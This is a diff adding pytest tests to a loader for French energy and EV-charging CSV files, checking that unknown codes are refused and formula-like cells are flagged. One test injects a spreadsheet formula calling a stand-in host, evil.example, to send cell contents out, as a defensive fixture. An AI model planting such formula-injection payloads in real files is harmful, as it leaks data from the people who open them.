@@ -103,3 +103,49 @@ def test_qualicharge_database_export_is_refused_as_another_layout(warehouse, tmp
     _, rows, issues = _load(warehouse, tmp_path, "irve_dynamique", "irve/irve_dynamique_qualicharge_electra_extract.csv")
     assert rows == 0
     assert issues == [("missing_column", 1, "required column 'id_pdc_itinerance' is missing from the header")]
+
+
+@pytest.mark.parametrize("fmt, relative, column, good, bad", [
+    # ORE's commune file writes the sector in words; "Z" is no sector of its specification
+    ("ore_conso_commune", "energy/ore_conso_elec_gaz_commune_2023_extract.csv", "code_grand_secteur",
+     ",RES,RESIDENTIEL,", ",RES,Z,"),
+    # the IRVE dynamic schema's point states: en_service, hors_service, inconnu
+    ("irve_dynamique", "irve/exemple-valide-dynamique.csv", "etat_pdc", ",en_service,", ",broken,"),
+])
+def test_a_code_outside_its_columns_list_is_refused_on_its_line(warehouse, tmp_path, fmt, relative, column, good, bad):
+    lines = (SHARED_FORMATS / relative).read_text(encoding="utf-8").splitlines()
+    assert good in lines[1]
+    lines[1] = lines[1].replace(good, bad, 1)
+    path = tmp_path / (SHARED_FORMATS / relative).name
+    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    entry = plain_entry(fmt)
+    delivery_id, rows = load_file(warehouse, entry, path)
+    assert rows == 0     # the file policy: one bad record refuses the file
+    [(code, line, column_name, message)] = warehouse.execute(
+        "SELECT code, line, column_name, message FROM landing.issues WHERE delivery_id = ? AND severity = 'error'",
+        [delivery_id]).fetchall()
+    value = bad.split(",")[-2]
+    accepted = ", ".join(entry.spec.column(column).values)
+    assert (code, line, column_name) == ("unexpected_value", 2, column)
+    assert message == f"{value!r} is not a code of this column (accepted: {accepted})"
+
+
+def test_a_station_name_written_as_a_formula_loads_with_a_warning(warehouse, tmp_path):
+    """A cell a spreadsheet would execute is the partner's text: kept as delivered and said (the
+    hub's CSV files prefix it with ', tests/publish/test_publisher.py)."""
+    src = SHARED_FORMATS / "irve" / "irve_statique_consolide_tesla_extract.csv"
+    lines = src.read_text(encoding="utf-8").splitlines()
+    formula = '=HYPERLINK("http://evil.example/?"&A1;"Mulhouse")'
+    assert ',"Mulhouse, France",' in lines[1]
+    lines[1] = lines[1].replace(',"Mulhouse, France",', ',"' + formula.replace('"', '""') + '",', 1)
+    path = tmp_path / src.name
+    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    entry = plain_entry("irve_statique")
+    delivery_id, rows = load_file(warehouse, entry, path)
+    assert rows == 40
+    assert warehouse.execute(f'SELECT nom_station FROM raw."{entry.key}" WHERE _source_line = 2').fetchone() == (formula,)
+    assert warehouse.execute(
+        "SELECT severity, code, line, column_name, message FROM landing.issues WHERE delivery_id = ?",
+        [delivery_id]).fetchall() == [
+        ("warning", "formula_like_text", 2, "nom_station",
+         f"{formula!r} starts like a spreadsheet formula: kept as delivered, prefixed with ' in the hub's CSV files")]
